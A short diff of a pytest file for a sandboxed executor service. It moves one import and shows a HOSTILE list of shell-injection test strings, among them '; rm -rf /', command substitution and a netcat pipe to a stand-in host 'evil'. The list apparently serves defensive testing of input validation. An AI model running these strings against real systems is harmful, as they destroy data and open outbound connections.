@@ -13,7 +13,8 @@ import pytest
 from services.common.errors import InvalidArgument, NotFound
 from services.common.settings import ConfigError
 from services.executor.catalog import BUILTIN_CATALOG, Catalog, GoblinSpec, Limits
-from services.executor.sandbox import available_modes, run, task_python
+from services.executor.sandbox import available_modes, run
+from services.executor.taskuser import task_python
 
 HOSTILE = ["; rm -rf /", "$(touch /tmp/goblin-pwned)", "`id`", "a && b", "x | nc evil 1", "'\"", "\n--help"]
 
